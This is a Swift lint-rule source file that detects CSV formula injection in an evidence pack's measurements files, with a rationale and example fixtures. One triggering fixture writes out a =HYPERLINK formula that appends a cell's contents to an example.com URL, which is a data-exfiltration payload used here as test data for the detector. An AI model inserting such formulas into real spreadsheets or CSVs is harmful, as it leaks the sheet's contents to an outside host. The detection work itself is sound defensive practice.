import EvidentModel
import EvidentSupport

/// A text cell of a measurements CSV that a spreadsheet would run as a formula. Reported while
/// loading, at the cell.
package enum SyntaxFormula: Sendable {
    package static let description = RuleDescription(
        id: "syntax/formula", name: "Formula in a CSV cell", obligation: .syntax, defaultSeverity: .warning,
        summary: "A note or evidence cell of a measurements CSV that a spreadsheet would read as a formula.",
        rationale: """
            The evidence pack carries the measurements CSVs as they are written, and an auditor opens them in a \
            spreadsheet. There a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before \
            one) is a formula, not text, even when it is quoted: `=HYPERLINK(…)` makes a link that can send what \
            the sheet holds elsewhere, some spreadsheets run commands from such a cell (CSV injection), and at \
            best the note shows as an error (`#NAME?`). evident writes its own CSVs with such text made safe, \
            but it never changes the organisation's files, so the cell is reported where it is. Values are \
            read as numbers and periods as periods, so only the `note` and `evidence` cells hold text that can \
            start this way.
            """,
        triggering: [
            RuleExample(["measurements/OBJ-INC-01.csv": ExampleTree.edit(ExampleTree.measurements, [
                "2026-09,3.3,,": "2026-09,3.3,↓\"=HYPERLINK(\"\"https://example.com/?\"\"&A1,\"\"details\"\")\",",
            ])]),
            RuleExample(["measurements/OBJ-INC-01.csv": ExampleTree.edit(ExampleTree.measurements, [
                "2026-09,3.3,,": "2026-09,3.3,↓- two outages on the same day,",
            ])]),
            RuleExample(["measurements/OBJ-INC-01.csv": ExampleTree.edit(ExampleTree.measurements, [
                "2026-09,3.3,,": "2026-09,3.3,,↓@extract-2026-09.csv",
            ])]),
        ],
        nonTriggering: [
            RuleExample(["measurements/OBJ-INC-01.csv": ExampleTree.measurements]),
            // A dash alone says "nothing to note"; a spreadsheet shows it as text.
            RuleExample(["measurements/OBJ-INC-01.csv": ExampleTree.edit(ExampleTree.measurements, ["2026-09,3.3,,": "2026-09,3.3,-,"])]),
            // A value below zero is a number, not a formula; a sign inside a note is text.
            RuleExample([
                "objectives/OBJ-INC-01.md": ExampleTree.objective(replacing: [
                    "  unit: h": "  unit: h change", "\"<= 4 h\"": "\"<= 4 h change\"", "\"<= 6 h\"": "\"<= 6 h change\"",
                ]),
                "measurements/OBJ-INC-01.csv": ExampleTree.edit(ExampleTree.measurements, ["2026-10,3.7,,": "2026-10,-0.4,two outages = one cause,"]),
            ]),
        ])

    /// Whether a spreadsheet reads `bytes`, a cell's text as written (unquoted), as a formula.
    static func isFormula(_ bytes: UnsafeBufferPointer<UInt8>) -> Bool {
        var index = 0
        // A tab or carriage return first is dropped by some spreadsheets, which then read what follows.
        while index < bytes.count, bytes[index] == 9 || bytes[index] == 13 { index += 1 }
        // A sign alone (`-` for "nothing to note") is text to a spreadsheet too.
        guard index + 1 < bytes.count else { return false }
        switch bytes[index] {
        case UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"): return true
        default: return false
        }
    }

    static func message(column: String, _ text: String) -> String {
        let shown = text.count > 40 ? String(text.prefix(40)) + "…" : text
        return "The `\(column)` cell \(codeSpan(shown)) starts as a spreadsheet formula does: a spreadsheet that opens this file, as an auditor opens the pack's copy, reads it as a formula, not text. Start the text with a word instead (`Note: …`)."
    }
}
